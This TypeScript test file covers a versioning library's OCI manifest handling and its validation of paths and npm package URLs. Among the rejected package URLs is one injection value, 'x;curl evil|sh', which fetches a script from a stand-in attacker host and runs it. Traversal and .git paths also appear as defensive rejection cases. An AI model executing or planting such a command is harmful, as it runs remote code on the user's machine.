import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import {
  canonicalJson,
  type Digest,
  lifecycleJsonSchemas,
  MEDIA_TYPES,
  MemoryObjects,
  readVersion,
  type VersionConfig,
  writeVersion,
} from "../../../../core/index.ts";
import { versionLayers } from "../../../../core/lifecycle/version/manifest.ts";
import { packageUrl } from "../../../../core/lifecycle/version/packages.ts";

/** Paths that lie elsewhere on some system, that it cannot write, or from where programs take their settings. */
const REFUSED_PATHS = [
  ...["../t.csv", "/t.csv", "a\\b", "C:t.csv", "a//b", "a/./b", "", "a/..", "t.csv\u0000", "a\u0085b"],
  ...[".git/config", "a/.GIT/hooks/x", ".g\u200cit/config", "git~1/config", "sub/.git", "GIT~2"],
  ...["node_modules/x/index.js", "a/Node_Modules/x.js", "a:b", "t.csv.", "t.csv ", "a /b", "a./b"],
  ...[
    "con",
    "a/AUX.csv",
    "nul.tar.gz",
    "com1",
    "LPT9.txt",
    "conin$",
    "com\u00b9.x",
    "aux .txt",
    "a?.csv",
    'a"b',
    "a|b",
  ],
];
const ALLOWED_PATHS = [
  ".gitignore",
  "git/config",
  "a b/c d.csv",
  "console.csv",
  "com.csv",
  "gewichte-ä.onnx",
  "a..b/..c",
  "x~1",
];

async function sampleConfig(objects: MemoryObjects): Promise<VersionConfig> {
  const put = async (mediaType: string, text: string) => {
    const { digest, bytes } = await objects.put(text);
    return { mediaType, digest, size: bytes };
  };
  const table = await put(MEDIA_TYPES.file, "1,2,3");
  return {
    schemaVersion: 1,
    twin: "ecal",
    spec: await put(MEDIA_TYPES.spec, "plugins: {}"),
    code: { files: [{ path: "lib/a.ts", descriptor: await put(MEDIA_TYPES.source, "export {}") }] },
    data: [
      { path: "t.csv", descriptor: table, role: "input" },
      { path: "u.csv", descriptor: table, role: "option" },
    ],
    models: [],
    environment: { engine: "0.1.0", node: "24.0", packages: [] },
    parents: [],
    annotations: { license: "Apache-2.0" },
  };
}

describe("A version", () => {
  it("is a canonical OCI manifest, the same for the same config in any order of members", async () => {
    const objects = new MemoryObjects();
    const config = await sampleConfig(objects);
    const { descriptor, manifest } = await writeVersion(objects, config);
    const reversed = Object.fromEntries(Object.entries(config).reverse()) as unknown as VersionConfig;
    expect((await writeVersion(objects, reversed)).descriptor).toEqual(descriptor);
    expect(manifest).toMatchObject({ schemaVersion: 2, mediaType: MEDIA_TYPES.ociManifest });
    const digests = manifest.layers.map(({ digest }) => digest);
    expect(digests.every((digest, index) => index === 0 || (digests[index - 1] as string) < digest)).toBe(true);
    expect(digests).toHaveLength(3);
    expect(await readVersion(objects, descriptor.digest)).toEqual({ descriptor, manifest, config });
  });

  it("has one digest: any text that is not canonical is refused, and so are other schemas and types", async () => {
    const objects = new MemoryObjects();
    const config = await sampleConfig(objects);
    const { manifest } = await writeVersion(objects, config);
    const refused = async (text: string, problem: string): Promise<void> => {
      const { digest } = await objects.put(text);
      await expect(readVersion(objects, digest)).rejects.toMatchObject({
        code: "TWIN_VERSION_DAMAGED",
        message: expect.stringContaining(problem),
      });
    };
    const text = canonicalJson(manifest);
    await refused(`${text}\n`, "no canonical JSON");
    await refused(JSON.stringify(manifest, null, 1), "no canonical JSON");
    await refused(text.replace('"schemaVersion":2', '"schemaVersion":2.0'), "no canonical JSON");
    await refused(`\uFEFF${text}`, "no JSON");
    await refused("no JSON at all", "no JSON");
    await refused(canonicalJson({ ...manifest, extra: 1 }), "extra");
    await refused(canonicalJson({ ...manifest, artifactType: MEDIA_TYPES.attestation }), MEDIA_TYPES.attestation);
    await refused(canonicalJson({ ...manifest, layers: manifest.layers.slice(1) }), "does not follow");
    const [first, ...others] = manifest.layers;
    await refused(canonicalJson({ ...manifest, layers: [{ ...first, size: 1 }, ...others] }), "does not follow");
    await refused(canonicalJson({ ...manifest, config: { ...manifest.config, size: 1 } }), "does not follow");
    // What nothing reads would give one config several digests.
    await refused(canonicalJson({ ...manifest, layers: [...manifest.layers, first] }), "does not follow");
    await refused(canonicalJson({ ...manifest, annotations: { note: "x" } }), "does not follow");
    await refused(canonicalJson({ ...manifest, subject: first }), "does not follow");
    for (const path of REFUSED_PATHS) {
      const odd = { ...config, data: [{ ...config.data[0], path }] };
      const stored = await objects.put(canonicalJson(odd));
      const descriptor = { mediaType: MEDIA_TYPES.version, digest: stored.digest, size: stored.bytes };
      await refused(canonicalJson({ ...manifest, config: descriptor }), "data.0.path");
    }
  });

  it("that is not there, or corrupt, is told by the store", async () => {
    const digest: Digest = `sha256:${"0".repeat(64)}`;
    await expect(readVersion(new MemoryObjects(), digest)).rejects.toMatchObject({ code: "TWIN_OBJECT_MISSING" });
  });

  it("may have any other path, and packages of npm only", async () => {
    const objects = new MemoryObjects();
    const config = await sampleConfig(objects);
    for (const path of ALLOWED_PATHS) {
      const { descriptor } = await writeVersion(objects, {
        ...config,
        data: [{ ...config.data[0], path }],
      } as VersionConfig);
      expect((await readVersion(objects, descriptor.digest)).config.data).toMatchObject([{ path }]);
    }
    const withPackage = (purl: string): VersionConfig => ({
      ...config,
      environment: { ...config.environment, packages: [{ purl }] },
    });
    for (const purl of [packageUrl("@acme/readout.x", "1.0.0-rc.1+build.7"), packageUrl("JSONStream", "1.3.5")]) {
      await writeVersion(objects, withPackage(purl));
    }
    for (const purl of [
      ...["pkg:npm/..%2F..%2Fnotes@1.0.0", "pkg:npm/..@1.0.0", "pkg:npm/a/b@1.0.0", "pkg:npm/%40a/..@1.0.0"],
      ...["pkg:npm/x;curl%20evil|sh%20%23@1.0.0", "pkg:npm/x@latest", "pkg:npm/x@1.0.0%20--force", "pkg:npm/x@1"],
    ]) {
      await expect(writeVersion(objects, withPackage(purl)), purl).rejects.toThrow("environment.packages.0.purl");
    }
  });

  it("is not written where it could not be read again", async () => {
    const objects = new MemoryObjects();
    const annotations = { description: "x".repeat(16 << 20) };
    const tooLong = writeVersion(objects, { ...(await sampleConfig(objects)), annotations });
    await expect(tooLong).rejects.toMatchObject({
      code: "TWIN_INVALID_ARGUMENT",
      message: expect.stringContaining("a store keeps at most 16777216 (16 MiB)"),
    });
  });

  it("of another twin than its log is damaged", async () => {
    const objects = new MemoryObjects();
    const { descriptor, config } = await writeVersion(objects, await sampleConfig(objects));
    expect(await readVersion(objects, descriptor.digest, config.twin)).toMatchObject({ config });
    await expect(readVersion(objects, descriptor.digest, "other")).rejects.toThrow(
      `it is a version of the twin "${config.twin}", and the log of "other" seals it.`,
    );
  });

  it("is not written of what is no config", async () => {
    const wrong = { schemaVersion: 1 } as VersionConfig;
    await expect(writeVersion(new MemoryObjects(), wrong)).rejects.toMatchObject({ code: "TWIN_INVALID_ARGUMENT" });
  });

  it("names every object of its config", async () => {
    const objects = new MemoryObjects();
    const config = await sampleConfig(objects);
    const names = [...JSON.stringify(config).matchAll(/sha256:[0-9a-f]{64}/g)].map(([digest]) => digest);
    expect(new Set<string>(versionLayers(config).map(({ digest }) => digest))).toEqual(new Set(names));
  });
});

describe("schemas/", () => {
  const schemas = lifecycleJsonSchemas();
  for (const [file, schema] of Object.entries(schemas)) {
    it(`has ${file} in step with the types`, () => {
      const text = readFileSync(new URL(`../../../../schemas/${file}`, import.meta.url), "utf8");
      expect(JSON.parse(text), "Run scripts/make-lifecycle-schemas.ts").toEqual(schema);
    });
  }

  it("says that a metric of a policy has a limit, as reading it does", () => {
    const limits = { anyOf: [{ required: ["max"] }, { required: ["min"] }] };
    expect(JSON.stringify(schemas["policy.schema.json"])).toContain(JSON.stringify(limits).slice(1, -1));
  });

  it("has patterns that other languages read: no classes by property, which Python has not", () => {
    expect(JSON.stringify(schemas)).not.toContain("\\p{");
  });

  it("is closed: an unknown member is no version", () => {
    expect(schemas["version.schema.json"]).toMatchObject({ additionalProperties: false, required: expect.any(Array) });
  });
});
